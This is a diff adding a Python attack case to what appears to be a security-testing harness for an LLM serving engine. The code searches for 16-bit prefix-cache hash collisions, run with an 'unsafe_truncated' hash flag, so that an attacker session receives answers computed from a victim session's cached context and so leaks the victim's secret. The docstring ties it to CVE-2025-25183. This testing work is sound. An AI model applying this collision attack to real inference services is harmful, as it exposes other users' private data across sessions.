@@ -1,0 +1,113 @@
+"""Two prompts, one block name: the hash keeps 16 bits, and who knows how it is made finds collisions in a moment.
+
+The attacker's block tells facts of its own; some of them are chosen so that the block's hash is that of a victim's.
+The engine believes that the KV is there and answers from the victim's. The names need no secret, so all of this is
+computed here, away from the engine, as in CVE-2025-25183 (vLLM before 0.7.2, whose hash of a chain started from a
+constant).
+"""
+
+from __future__ import annotations
+
+import random
+from collections.abc import Sequence
+from itertools import zip_longest
+
+from engine.config import EngineConfig
+from engine.prefix_cache import hash_block
+from engine.testbed.tasks import KEYS, VALUES
+from engine.tokenizer import Tokenizer
+from probe.replay.attacks.attack import WAVE, Ask, Case, CaseAttack, session
+from probe.replay.attacks.facts import Fact, draw_facts, next_turn, question, told
+
+BLOCK_SIZE = 16
+FACTS = 5  # <bos> and five facts of three tokens are one block
+HASH_BYTES = 2
+VICTIMS_PER_PAIR = 4
+TRIES_PER_BASE = 2000  # last facts tried with the same first four
+
+
+class Collision(CaseAttack):
+    """Variant `collision`."""
+
+    kind = "collision"
+
+    def __init__(self) -> None:
+        tokenizer = Tokenizer(EngineConfig().model_dir)
+        # <bos>, key, value, ";": a fact is always these, so blocks can be made without the tokenizer.
+        self._bos, first_key, first_value, semicolon = tokenizer.encode(f"{KEYS[0]}={VALUES[0]};")
+        self._ids = {";": semicolon, KEYS[0]: first_key, VALUES[0]: first_value}
+        for key, value in zip_longest(KEYS, VALUES, fillvalue=VALUES[0]):
+            _, key_id, value_id, _ = tokenizer.encode(f"{key}={value};")
+            self._ids |= {key: key_id, value: value_id}
+        self._last_facts = [(key, value) for key in KEYS for value in VALUES]
+
+    def flags(self) -> list[str]:
+        """A hash of 16 bits."""
+        return ["--prefix-caching-hash-algo", "unsafe_truncated"]
+
+    def cases(self, count: int, rng: random.Random) -> list[Case]:
+        """Pairs whose first blocks have the same 16 bits: victims first, attackers searched for."""
+        made: list[Case] = []
+        while len(made) < count:
+            key = rng.choice(KEYS)
+            for victim, attacker in self._collisions(rng, key, min(WAVE, count - len(made))):
+                made.append(_case(str(len(made)), key, victim, attacker))
+        return made
+
+    def tell(self, case: Case, answers: Sequence[str]) -> str:
+        """What the attacker got."""
+        if answers[1] != case.secret:
+            return f"Session B had told {case.right} and got {answers[1]}, computed from Session A's text."
+        return (
+            f"Session B had told the assistant {case.right} and asked for it. It got {answers[1]}: what Session A, whom "
+            f"it knows nothing of, had told under the same name."
+        )
+
+    def _collisions(self, rng: random.Random, key: str, count: int) -> list[tuple[list[Fact], list[Fact]]]:
+        """`count` pairs of a victim's facts and an attacker's: both tell `key`, with different values.
+
+        Any of several victims will do for the next attacker, so that one is found every few hundred tries.
+        """
+        victims: dict[bytes, list[Fact]] = {}
+        for _ in range(VICTIMS_PER_PAIR * count):
+            facts = draw_facts(rng, FACTS, (key, rng.choice(VALUES)))
+            victims[self._name_of(facts)] = facts
+        found: list[tuple[list[Fact], list[Fact]]] = []
+        while True:
+            base = draw_facts(rng, FACTS - 1, (key, rng.choice(VALUES)))
+            right = dict(base)[key]
+            start = [self._bos, *self._tokens(base)]
+            for last in rng.sample(self._last_facts, TRIES_PER_BASE):
+                facts = victims.get(self._name([*start, *self._tokens([last])]))
+                if facts is None or dict(facts)[key] == right or last[0] in dict(base):
+                    continue
+                del victims[self._name_of(facts)]
+                found.append((facts, [*base, last]))
+                if len(found) == count:
+                    return found
+
+    def _name_of(self, facts: Sequence[Fact]) -> bytes:
+        return self._name([self._bos, *self._tokens(facts)])
+
+    def _tokens(self, facts: Sequence[Fact]) -> list[int]:
+        return [self._ids[part] for fact in facts for part in (*fact, ";")]
+
+    @staticmethod
+    def _name(token_ids: Sequence[int]) -> bytes:
+        """A block's name as the engine makes it."""
+        return hash_block(None, token_ids)[:HASH_BYTES]
+
+
+def _case(name: str, key: str, victim: list[Fact], attacker: list[Fact]) -> Case:
+    secret, right = dict(victim)[key], dict(attacker)[key]
+    asked = told(victim) + question(key)
+    other = next(k for k, _ in victim if k != key)
+    caller = session(f"a{name}")
+    follow_up = next_turn(asked, secret, other)
+    return Case(
+        victim=Ask(asked, asked, caller),
+        attacker=Ask(told(attacker) + question(key), told(attacker) + question(key), session(f"b{name}")),
+        right=right,
+        secret=secret,
+        follow_up=Ask(follow_up, follow_up, caller),
+    )
